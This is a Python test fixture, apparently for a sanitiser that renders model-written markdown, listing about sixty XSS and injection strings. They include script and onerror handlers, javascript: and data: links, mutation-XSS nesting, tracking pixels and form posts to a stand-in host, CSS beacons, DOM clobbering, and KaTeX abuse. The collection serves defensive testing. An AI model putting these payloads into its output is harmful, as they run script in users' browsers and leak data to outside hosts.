"""What a model may write, by accident or because somebody told it to. Each piece tries one thing."""

STRANGER = "https://stranger.invalid"

PIECES = (
    # scripts
    "<script>window.pwned = 1</script>",
    "<SCRIPT SRC=//stranger.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned = 1</scr</script>ipt>",
    '<img src=x onerror="window.pwned = 1">',
    "<img/src=x/onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    '<details open ontoggle="window.pwned = 1"><summary>s</summary></details>',
    "<p onmouseover='window.pwned=1' onfocus=window.pwned=1 tabindex=1 autofocus>over</p>",
    '<video><source onerror="window.pwned=1"></video><audio src=https://stranger.invalid/a.mp3 autoplay></audio>',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    "<template><img src=x onerror=window.pwned=1></template>",
    # addresses
    "[click](javascript:window.pwned=1)",
    "[click](  JaVaScRiPt:alert(1) )",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[out](/api/keys)",
    "[here](#app)",
    '<a href="&#x6A;avascript:alert(1)">a</a>',
    '<a href="https://stranger.invalid" ping="https://stranger.invalid/ping" target=_top>a</a>',
    "<https://stranger.invalid/auto>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    # pictures and what else is loaded
    "![spy](https://stranger.invalid/pixel.png)",
    "![spy](//stranger.invalid/pixel.png)",
    '<img src=https://stranger.invalid/pixel.png srcset="https://stranger.invalid/2x.png 2x">',
    "<picture><source srcset=https://stranger.invalid/p.png><img src=https://stranger.invalid/p.png></picture>",
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "<link rel=stylesheet href=https://stranger.invalid/x.css><link rel=dns-prefetch href=//stranger.invalid>",
    '<iframe src=https://stranger.invalid srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=https://stranger.invalid></object><embed src=https://stranger.invalid>",
    '<meta http-equiv=refresh content="0;url=https://stranger.invalid"><base href=https://stranger.invalid/>',
    "<table background=https://stranger.invalid/b.png><tr><td background=https://stranger.invalid/b.png>t</td></tr></table>",
    # SVG and MathML
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<svg><image href=https://stranger.invalid/i.svg /><use href=https://stranger.invalid/u.svg#a /></svg>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">m</math>',
    # forms
    "<form action=https://stranger.invalid method=post><input name=key value=k><button>Sign in</button></form>",
    "<input type=image src=https://stranger.invalid/i.png formaction=javascript:alert(1)>",
    "<button formaction=https://stranger.invalid>b</button><select autofocus onfocus=window.pwned=1></select>",
    # style
    "<style>body { display: none } * { background: url(https://stranger.invalid/s) }</style>",
    '<div style="position:fixed;inset:0;background:url(https://stranger.invalid/d)">cover</div>',
    '<div class="sw-dock topbar gate">in disguise</div>',
    '<font face="x" color=red size=7>big</font><marquee>m</marquee>',
    # names in the document
    "<a id=app name=body href=https://stranger.invalid>a</a><img name=getElementById>",
    "<form id=documentElement><input name=attributes></form>",
    # ways out of a block
    "```html\n</code></pre><script>window.pwned=1</script>\n```",
    "`</code><img src=x onerror=window.pwned=1>`",
    "<div><div><div>left open",
    "</div></div></div></main></body>",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    # formulas
    "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "$\\includegraphics{https://stranger.invalid/t.png}$",
    "$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\htmlId{app}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\rule{9999em}{9999em}$ $\\kern{-9999em}x$",
    "$<img src=x onerror=window.pwned=1>$",
    # a comment that nobody ends: last, for it takes the rest
    "<!-- <img src=x onerror=window.pwned=1> --!><img src=x onerror=window.pwned=1>",
)

TEXT = "\n\n".join(PIECES)
